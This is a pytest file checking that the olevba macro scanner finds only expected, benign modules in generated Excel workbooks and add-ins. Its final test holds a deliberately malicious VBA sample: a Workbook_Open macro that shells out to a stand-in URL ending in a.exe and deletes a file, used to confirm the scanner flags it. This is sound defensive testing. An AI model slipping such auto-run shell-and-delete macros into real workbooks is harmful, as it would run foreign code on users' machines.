"""What an administrator's scanner of macros (olevba) sees in the files that we make."""

from importlib import import_module
from pathlib import Path

import pytest

from poc_sheets.build.excel_add_in import make_add_in
from poc_sheets.build.excel_macros import macro_modules
from poc_sheets.build.new_production import make_production

olevba = import_module("oletools.olevba")

#: Words of comments and of names; what they are taken for, our modules do not do.
WORDS = {"base64 strings", "call", "command", "open", "put", "run", "windows", "write"}


@pytest.fixture(params=["workbook", "add-in"])
def made(request: pytest.FixtureRequest, tmp_path: Path) -> Path:
    if request.param == "workbook":
        path = tmp_path / "Film.xlsm"
        make_production(path, title="Film", macros=True)
    else:
        path = tmp_path / "poc_sheets.xlam"
        make_add_in(path, interpreter=r"C:\Python\python.exe")
    return path


def test_the_scanner_reads_the_same_text_that_lies_in_macros(made: Path) -> None:
    """Each module once, whole; nothing hidden beside them."""
    parser = olevba.VBA_Parser(str(made))
    try:
        found = {name.rpartition(".")[0]: code for _, _, name, code in parser.extract_macros()}
        assert parser.detect_vba_macros()
        assert not parser.detect_vba_stomping()
    finally:
        parser.close()
    for name, text in macro_modules().items():
        lines = [line for line in found[name].splitlines() if not line.startswith("Attribute ")]
        own = [line for line in text.splitlines() if not line.startswith("Attribute ")]
        assert lines == own, name
    others = {name for name in found if not name.startswith("Sheet")} - macro_modules().keys()
    assert others == {"ThisWorkbook", "xlwings", "Dictionary"}
    documents = [found[name] for name in found if name.startswith(("Sheet", "ThisWorkbook"))]
    assert all("Sub " not in code and "Function " not in code for code in documents)


@pytest.mark.parametrize("name", sorted(macro_modules()))
def test_our_modules_start_by_no_event_and_touch_no_file_shell_or_address(name: str) -> None:
    """All that reaches out is xlwings' own module, which our buttons call."""
    found = olevba.scan_vba(macro_modules()[name], include_decoded_strings=False)
    assert {kind for kind, _, _ in found} <= {"Suspicious"}
    assert {word.casefold() for _, word, _ in found} <= WORDS


def test_the_scanner_would_see_what_our_modules_do_not_do() -> None:
    """A module that starts a program when the workbook is opened."""
    bad = 'Sub Workbook_Open()\n  Shell "https://example.com/a.exe"\n  Kill "a"\nEnd Sub\n'
    kinds = {kind for kind, _, _ in olevba.scan_vba(bad, include_decoded_strings=False)}
    assert kinds == {"AutoExec", "Suspicious", "IOC"}
